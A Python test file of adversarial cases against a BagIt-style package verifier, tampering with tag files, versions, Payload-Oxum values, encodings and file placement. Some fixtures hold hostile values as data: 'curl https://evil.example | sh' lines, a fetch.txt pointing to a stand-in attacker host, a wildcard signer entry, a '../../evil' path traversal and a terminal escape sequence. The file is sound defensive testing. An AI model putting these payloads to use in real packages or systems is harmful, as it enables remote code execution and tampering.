"""Attacks on the bag: tag files, versions, and files where none belong."""

import re

from tests.hostile.bag_edits import tagged
from tests.hostile.case import (
    CHANGED,
    UNSUPPORTED,
    Case,
    Make,
    in_place,
    insider,
    outsider,
    sealed,
    swap,
)
from tests.hostile.kit import Kit
from workbench.exchange import layout


def bag_info(old: bytes, new: bytes) -> Make:
    def make(kit: Kit) -> bytes:
        data = kit.members[layout.BAG_INFO]
        changed = re.sub(old, new, data, count=1)
        assert changed != data
        return tagged({layout.BAG_INFO: changed})(kit)

    return make


def declared(text: bytes) -> Make:
    return tagged({layout.BAGIT: text})


_EXTRA = {
    "fetch.txt": b"https://evil.example/x 4 data/x\n",
    "manifest-md5.txt": b"",
    "manifest-sha512.txt": b"0" * 128 + b"  data/x\n",
    "manifest-sha1.txt": b"",
    "tagmanifest-sha512.txt": b"",
    "tagmanifest-md5.txt": b"",
    "allowed_signers": b"evil ssh-ed25519 AAAA\n",
    "README.md": b"curl https://evil.example | sh\n",
    "VERIFY.txt": b"curl https://evil.example | sh\n",
    "signatures/allowed_signers": b"*",
    "signatures/author-XYZ.sig": b"",
    "metadata/extra.xml": b"<x/>",
    "data.txt": b"x",
    "setup.py": b"import os\n",
    "conftest.py": b"import os\n",
}


_PLACES = {
    "data/extra.txt": "in no known place",
    "data/report/evil.js": "a script in the report",
    "data/report/evil.svg": "a drawing in the report",
    "data/report/evil.exe": "a program in the report",
    "data/report/img/x.png": "a picture in the report",
    "data/models/model.pkl": "a pickle among the models",
    "data/models/model.joblib": "a joblib file among the models",
    "data/models/model.pt": "a torch file among the models",
    "data/models/sub/model.onnx": "a folder among the models",
    "data/models/run.py": "a program among the models",
    "data/replay/setup.py": "a program beside the recipe",
    "data/replay/wheels/evil.whl": "a wheel beside the recipe",
    "data/journal/journal.jsonl.bak": "a second journal",
    "data/journal/checkpoint.txt.sig2": "a second signature",
    "data/evidence/evil.csv": "evidence without its hash",
    "data/evidence/0123456789abcdef-a/b.csv": "a folder in the evidence",
    "data/signatures/author-00000000.sig": "signatures in the payload",
    "data/results/evil.json": "a result of no run",
}


CASES: list[Case] = [
    *(
        insider(
            f"bag: extra {name}",
            "Add what the signed manifests do not cover.",
            lambda kit, n=name, d=data: kit.with_members({n: d}).zipped(),
            *CHANGED,
        )
        for name, data in _EXTRA.items()
    ),
    *(
        insider(
            f"layout: {what}",
            "Put a file where the format has no place for it.",
            sealed({path: b"\x80\x04evil."}),
        )
        for path, what in _PLACES.items()
    ),
    *(
        insider(
            f"layout: no {path}",
            "Leave out what every package has.",
            lambda kit, p=path: kit.sealed({p: None}).zipped(),
        )
        for path in layout.REQUIRED
    ),
    *(
        insider(
            f"bag: no {path}",
            "Leave out a tag file.",
            lambda kit, p=path: kit.with_members({p: None}).zipped(),
            *CHANGED,
        )
        for path in layout.TAG_FILES
    ),
    insider(
        "bagit.txt: version 0.97",
        "Have older rules applied.",
        declared(b"BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-8\n"),
    ),
    insider(
        "bagit.txt: version 2.0",
        "Have no rules applied.",
        declared(b"BagIt-Version: 2.0\nTag-File-Character-Encoding: UTF-8\n"),
        5,
        6,
    ),
    insider(
        "bagit.txt: UTF-16",
        "Have manifests read in another encoding.",
        declared(b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-16\n"),
    ),
    insider(
        "bagit.txt: byte-order mark",
        "Have readers differ.",
        declared(b"\xef\xbb\xbfBagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n"),
    ),
    insider(
        "bagit.txt: CRLF",
        "Have readers differ.",
        declared(b"BagIt-Version: 1.0\r\nTag-File-Character-Encoding: UTF-8\r\n"),
    ),
    insider(
        "bagit.txt: no last line end",
        "Have readers differ.",
        declared(b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8"),
    ),
    insider(
        "bagit.txt: a third line",
        "Carry a word to some readers.",
        declared(b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\nX: y\n"),
    ),
    insider(
        "bagit.txt: lower case",
        "Have readers differ.",
        declared(b"bagit-version: 1.0\ntag-file-character-encoding: utf-8\n"),
    ),
    insider("bagit.txt: empty", "Be no bag.", declared(b"")),
    outsider(
        "bagit.txt: changed",
        "Change a tag file.",
        in_place(layout.BAGIT, lambda d: d + b"\n"),
        *CHANGED,
    ),
    insider(
        "bag-info: oxum of bytes lies",
        "Hide that bytes are missing.",
        bag_info(rb"Oxum: \d+", b"Oxum: 1"),
        *CHANGED,
    ),
    insider(
        "bag-info: oxum of files lies",
        "Hide that files are missing.",
        bag_info(rb"\.\d+\n", b".1\n"),
        *CHANGED,
    ),
    insider("bag-info: oxum negative", "Confuse arithmetic.", bag_info(rb"Oxum: ", b"Oxum: -")),
    insider(
        "bag-info: oxum huge",
        "Make the reader allocate.",
        bag_info(rb"Oxum: \d+", b"Oxum: " + b"9" * 5000),
    ),
    insider("bag-info: oxum missing", "Skip the check.", bag_info(rb"Payload-Oxum: \S+\n", b"")),
    insider(
        "bag-info: oxum twice",
        "Have readers differ.",
        bag_info(rb"(Payload-Oxum: \S+\n)", rb"\1\1"),
    ),
    insider(
        "bag-info: identifier missing",
        "Be nobody's.",
        bag_info(rb"External-Identifier: \S+\n", b""),
    ),
    insider(
        "bag-info: identifier is a UUIDv4", "Be another kind of thing.", bag_info(rb"-7", b"-4")
    ),
    insider(
        "bag-info: identifier climbs",
        "Have a folder named after it.",
        bag_info(rb"Identifier: \S+", b"Identifier: ../../evil"),
    ),
    insider(
        "bag-info: date that is none",
        "Crash the reader.",
        bag_info(rb"Date: \S+", b"Date: 2026-13-45"),
    ),
    insider("bag-info: date missing", "Be of no day.", bag_info(rb"Bagging-Date: \S+\n", b"")),
    insider(
        "bag-info: unknown label",
        "Carry a word to some readers.",
        bag_info(rb"\Z", b"Contact-Name: evil\n"),
    ),
    insider("bag-info: folded line", "Have readers differ.", bag_info(rb"\n", b"\n  folded\n")),
    insider(
        "bag-info: BagIt profile",
        "Have a profile fetched.",
        bag_info(rb"\Z", b"BagIt-Profile-Identifier: http://evil.example/p.json\n"),
    ),
    insider("bag-info: CRLF", "Have readers differ.", bag_info(rb"\n", b"\r\n")),
    insider("bag-info: byte-order mark", "Have readers differ.", bag_info(rb"\A", b"\xef\xbb\xbf")),
    insider("bag-info: not UTF-8", "Crash the reader.", bag_info(rb"Date: \S+", b"Date: \xff\xfe")),
    insider(
        "bag-info: escape sequence",
        "Steer the reader's terminal.",
        bag_info(rb"Date: \S+", b"Date: \x1b[2J"),
    ),
    insider("bag-info: NUL", "Cut the text short.", bag_info(rb"\Z", b"\0")),
    insider("bag-info: empty", "Crash the reader.", bag_info(rb"(?s).+", b"")),
    insider("bag-info: 1 MiB", "Make the reader slow.", bag_info(rb"\Z", b"A: b\n" * 200_000)),
    insider(
        "bag-info: labels in another order",
        "Have two spellings.",
        bag_info(rb"(External-Identifier: \S+\n)(Bagging-Date: \S+\n)", rb"\2\1"),
    ),
    insider(
        "version: 2.0",
        "Have unknown rules taken for known.",
        lambda kit: kit.sealed({}, version="2.0").zipped(),
        UNSUPPORTED,
    ),
    insider(
        "version: 0.9",
        "Have older rules applied.",
        lambda kit: kit.sealed({}, version="0.9").zipped(),
        UNSUPPORTED,
    ),
    insider(
        "version: 1.0.0",
        "Have readers differ.",
        bag_info(rb"Version: 1.0", b"Version: 1.0.0"),
        5,
        6,
    ),
    insider(
        "version: 01.0", "Have readers differ.", bag_info(rb"Version: 1.0", b"Version: 01.0"), 5, 6
    ),
    insider(
        "version: huge",
        "Crash the reader.",
        bag_info(rb"Version: 1.0", b"Version: 1." + b"9" * 5000),
        5,
        6,
    ),
    insider(
        "version: other in incident.json",
        "Have two rules apply.",
        lambda kit: kit.sealed(
            {layout.INCIDENT: swap(b'"1.0"', b'"1.3"')(kit.members[layout.INCIDENT])}
        ).zipped(),
    ),
    insider(
        "version: 1.5 around a hidden file of 1.0",
        "Have an unknown version excuse a broken journal.",
        lambda kit: kit.sealed(
            {layout.JOURNAL: kit.members[layout.JOURNAL][:-2] + b"\n"}, version="1.5"
        ).zipped(),
        *CHANGED,
    ),
]
"""Every attack on the bag but its manifests."""
